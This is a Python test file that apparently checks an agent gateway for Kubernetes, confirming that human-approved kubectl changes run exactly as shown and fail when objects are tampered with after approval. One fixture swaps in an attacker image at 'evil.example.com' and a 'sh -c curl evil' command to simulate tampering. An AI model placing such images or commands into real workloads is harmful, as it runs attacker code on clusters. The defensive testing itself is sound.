"""What was shown is what is done, once, over a real API server: also when it was read from another object."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from plugins.kubernetes.agent_gateway_kubernetes import plan_workloads
from tests.kubernetes_cluster import KubernetesCluster, Recorded
from tests.kubernetes_house import House, a_deployment, a_pod, add_revisions, deployments, open_house, pods

STRATEGIC = "application/strategic-merge-patch+json"
ANOTHER = {"image": "evil.example.com/x:9", "command": ["sh", "-c", "curl evil"]}


@pytest.fixture
async def house(control_plane: KubernetesCluster, tmp_path: Path) -> AsyncIterator[House]:
    async with open_house(tmp_path, air=(control_plane, "admin")) as house:
        yield house
    control_plane.meddle = None


def add_cron_job(cluster: KubernetesCluster, namespace: str) -> str:
    """A cron job with a command and a secret of its own; its address."""
    container = {
        "name": "backup",
        "image": "registry.example.com/backup:1.0",
        "command": ["backup", "--all"],
        "envFrom": [{"secretRef": {"name": "storage"}}],
    }
    pod = {"restartPolicy": "Never", "containers": [container]}
    spec = {"schedule": "0 3 * * *", "jobTemplate": {"spec": {"template": {"spec": pod}}}}
    path = f"/apis/batch/v1beta1/namespaces/{namespace}/cronjobs"
    cluster.create(path, {"metadata": {"name": "backup"}, "spec": spec})
    return f"{path}/backup"


def in_pods(**fields: Any) -> dict[str, Any]:
    """A patch of the one container of a template."""
    return {"spec": {"template": {"spec": {"containers": [fields]}}}}


def sent(cluster: KubernetesCluster, begun: int, path: str) -> list[Recorded]:
    """The writes of an address that were no dry runs."""
    return [each for each in cluster.journal[begun:] if each.path == path and not each.harmless]


async def test_a_job_is_what_its_cron_job_said_when_it_was_shown(
    house: House, control_plane: KubernetesCluster
) -> None:
    namespace = control_plane.new_namespace()
    cron = add_cron_job(control_plane, namespace)
    jobs = f"/apis/batch/v1/namespaces/{namespace}/jobs"
    ordinary = await house.change(f"kubectl create job first --from=cronjob/backup -n {namespace}")
    assert ordinary.status == "ok", ordinary.text
    (container,) = control_plane.get(f"{jobs}/first")["spec"]["template"]["spec"]["containers"]
    assert (container["command"], container["envFrom"]) == (["backup", "--all"], [{"secretRef": {"name": "storage"}}])
    asked = await house.kubectl(f"kubectl create job now --from=cronjob/backup -n {namespace}")
    assert asked.status == "waiting", asked.text
    template = {"spec": {"jobTemplate": in_pods(name="backup", **ANOTHER)}}
    control_plane.call("PATCH", cron, template, content_type=STRATEGIC)
    begun = len(control_plane.journal)
    result = await house.approve()
    assert (result.status, "what this would write has changed since it was approved" in result.text) == ("failed", True)
    assert "It has not happened" in result.text
    assert not control_plane.exists(f"{jobs}/now")
    assert sent(control_plane, begun, jobs) == []


async def test_a_service_selects_the_labels_that_were_shown(house: House, control_plane: KubernetesCluster) -> None:
    namespace = control_plane.new_namespace()
    control_plane.create(pods(namespace), a_pod("web-1"))
    await house.kubectl(f"kubectl expose pod web-1 -n {namespace} --port=80 --name=web")
    control_plane.patch(f"{pods(namespace)}/web-1", {"metadata": {"labels": {"app": "payments"}}})
    result = await house.approve()
    assert (result.status, "has changed since it was approved" in result.text) == ("failed", True)
    assert not control_plane.exists(f"/api/v1/namespaces/{namespace}/services/web")


async def test_a_rollout_goes_back_to_the_revision_that_was_shown(
    house: House, control_plane: KubernetesCluster
) -> None:
    namespace = control_plane.new_namespace()
    add_revisions(control_plane, namespace)
    await house.kubectl(f"kubectl rollout undo deploy/web -n {namespace}")
    revision = f"/apis/apps/v1/namespaces/{namespace}/replicasets/web-h1"
    control_plane.call("PATCH", revision, in_pods(name="web", **ANOTHER), content_type=STRATEGIC)
    before = control_plane.get(f"{deployments(namespace)}/web")
    result = await house.approve()
    assert (result.status, "what this would write has changed since it was approved" in result.text) == ("failed", True)
    assert control_plane.get(f"{deployments(namespace)}/web") == before


async def test_a_restart_is_the_same_whenever_it_is_made(
    house: House, control_plane: KubernetesCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    namespace = control_plane.new_namespace()
    control_plane.create(deployments(namespace), a_deployment())
    await house.kubectl(f"kubectl rollout restart deploy/web -n {namespace}")
    moment = datetime.now(UTC) + timedelta(hours=1)
    monkeypatch.setattr(plan_workloads, "datetime", SimpleNamespace(now=lambda zone: moment))
    assert (await house.approve()).status == "ok"
    template = control_plane.get(f"{deployments(namespace)}/web")["spec"]["template"]
    assert template["metadata"]["annotations"][plan_workloads.RESTARTED] == f"{moment:%Y-%m-%dT%H:%M:%SZ}"


class Killed(BaseException):
    """The process has ended here."""


async def cut_off(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    """Approve and make the change, and end before the outcome row."""

    async def die(*_: Any) -> None:
        raise Killed

    with monkeypatch.context() as patched:
        patched.setattr(house.records, "finish", die)
        with pytest.raises(Killed):
            await house.approve()


async def test_what_was_created_and_is_gone_is_not_created_again(
    house: House, control_plane: KubernetesCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    namespace = control_plane.new_namespace()
    add_cron_job(control_plane, namespace)
    jobs = f"/apis/batch/v1/namespaces/{namespace}/jobs"
    begun = len(control_plane.journal)
    await house.kubectl(f"kubectl create job now --from=cronjob/backup -n {namespace}")
    await cut_off(house, monkeypatch)
    control_plane.call("DELETE", f"{jobs}/now", {"propagationPolicy": "Background"})
    result = await house.executor.perform(house.made, house.turned)
    assert (result.status, "Whether it happened is not known" in result.text) == ("failed", True)
    assert not control_plane.exists(f"{jobs}/now")
    assert len(sent(control_plane, begun, jobs)) == 1


async def test_somebody_elses_object_of_that_name_proves_nothing(
    house: House, control_plane: KubernetesCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    namespace = control_plane.new_namespace()
    maps = f"/api/v1/namespaces/{namespace}/configmaps"
    begun = len(control_plane.journal)
    await house.kubectl(f"kubectl create configmap new --from-literal=a=1 -n {namespace}")
    await cut_off(house, monkeypatch)
    control_plane.call("DELETE", f"{maps}/new")
    (theirs,) = control_plane.create(maps, {"metadata": {"name": "new"}, "data": {"a": "2"}})
    result = await house.executor.perform(house.made, house.turned)
    assert (result.status, "Whether it happened is not known" in result.text) == ("failed", True)
    assert control_plane.get(f"{maps}/new") == theirs
    assert len(sent(control_plane, begun, maps)) == 1


async def test_a_trace_that_somebody_took_away_proves_nothing(
    house: House, control_plane: KubernetesCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    namespace = control_plane.new_namespace()
    control_plane.create(deployments(namespace), a_deployment())
    path = f"{deployments(namespace)}/web"
    begun = len(control_plane.journal)
    await house.kubectl(f"kubectl rollout restart deploy/web -n {namespace}")
    await cut_off(house, monkeypatch)
    # Whoever applies the manifest again takes the restart and its trace away; the pods were replaced all the same.
    template = {"template": {"metadata": {"annotations": None}}}
    control_plane.patch(path, {"metadata": {"annotations": None}, "spec": template})
    result = await house.executor.perform(house.made, house.turned)
    assert (result.status, "Whether it happened is not known" in result.text) == ("failed", True)
    assert len(sent(control_plane, begun, path)) == 1


async def test_what_was_certainly_not_done_is_still_done(
    house: House, control_plane: KubernetesCluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    namespace = control_plane.new_namespace()
    control_plane.create(deployments(namespace), a_deployment())
    path = f"{deployments(namespace)}/web"
    await house.kubectl(f"kubectl scale deploy/web --replicas=5 -n {namespace}")
    begin = house.records.begin

    async def begin_and_die(record: Any) -> None:
        await begin(record)
        raise Killed

    with monkeypatch.context() as patched:
        patched.setattr(house.records, "begin", begin_and_die)
        with pytest.raises(Killed):
            await house.approve()
    control_plane.patch(f"{path}/status", {"status": {"observedGeneration": 1, "replicas": 1}})
    result = await house.executor.perform(house.made, house.turned)
    assert result.status == "ok", result.text
    assert control_plane.get(path)["spec"]["replicas"] == 5


async def test_a_write_whose_answer_was_lost_is_found_done(house: House, control_plane: KubernetesCluster) -> None:
    namespace = control_plane.new_namespace()
    maps = f"/api/v1/namespaces/{namespace}/configmaps"
    control_plane.create(maps, {"metadata": {"name": "settings"}, "data": {"a": "1"}})
    manifest = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "settings"}, "data": {"a": "2"}}
    await house.kubectl(f"kubectl replace -f - -n {namespace}", manifest=json.dumps(manifest))

    def make_it_first(request: Recorded) -> None:
        # An HTTP client sends a PUT again when the connection breaks before the answer.
        if request.method == "PUT" and not request.harmless:
            control_plane.call("PUT", f"{maps}/settings", request.json())

    control_plane.meddle = make_it_first
    result = await house.approve()
    assert (result.status, "carries this effect's key" in result.text) == ("ok", True)


async def test_server_side_apply_merges_into_nothing_that_was_not_shown(
    house: House, control_plane: KubernetesCluster
) -> None:
    namespace = control_plane.new_namespace()
    maps = f"/api/v1/namespaces/{namespace}/configmaps"
    fresh = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "fresh"}, "data": {"a": "mine"}}
    await house.kubectl(f"kubectl apply --server-side -f - -n {namespace}", manifest=yaml.safe_dump(fresh))
    theirs: list[Any] = []

    def be_faster(request: Recorded) -> None:
        if request.path.startswith(maps) and not request.harmless and not theirs:
            theirs.extend(control_plane.create(maps, {"metadata": {"name": "fresh"}, "data": {"other": "theirs"}}))

    control_plane.meddle = be_faster
    result = await house.approve()
    assert (result.status, "already exists" in result.text) == ("failed", True)
    assert control_plane.get(f"{maps}/fresh") == theirs[0]


async def test_what_server_side_apply_creates_belongs_to_it(house: House, control_plane: KubernetesCluster) -> None:
    namespace = control_plane.new_namespace()
    web = {"apiVersion": "apps/v1", "kind": "Deployment", **a_deployment()}
    apply = f"kubectl apply --server-side -f - -n {namespace}"
    done = await house.change(apply, manifest=json.dumps(web))
    assert done.status == "ok", done.text
    (entry,) = control_plane.get(f"{deployments(namespace)}/web")["metadata"]["managedFields"]
    assert (entry["manager"], entry["operation"]) == ("agent-gateway", "Apply")
    web["spec"]["replicas"] = 3
    again = await house.change(apply, manifest=json.dumps(web))
    assert again.status == "ok", again.text
    assert control_plane.get(f"{deployments(namespace)}/web")["spec"]["replicas"] == 3
